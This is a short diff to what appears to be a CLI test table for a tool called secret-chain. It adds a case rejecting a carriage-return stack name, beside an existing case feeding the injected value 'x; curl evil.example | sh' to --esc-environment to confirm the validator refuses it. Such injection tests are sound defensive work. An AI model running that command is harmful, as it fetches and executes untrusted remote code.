@@ -55,6 +55,7 @@ CASES: dict[str, Case] = {
     "invalid-choice": Case(("inventory", "--environment", CANARY), "invalid choice"),
     "unknown-command": Case((CANARY,), "invalid choice"),
     "missing-argument": Case(("plan",), "the following arguments are required: --stack"),
+    "control-character-stack": Case(("preflight", "--stack", "\r"), "is not a secret-chain stack name"),
     # secret-chain:escEnvironment and --esc-environment are pasted into printed commands: only a reference passes
     "esc-environment-shell": Case(("rotation", "--state", str(STATE), "--esc-environment", "x; curl evil.example | sh"), "<org>/<project>/<env>"),
 }
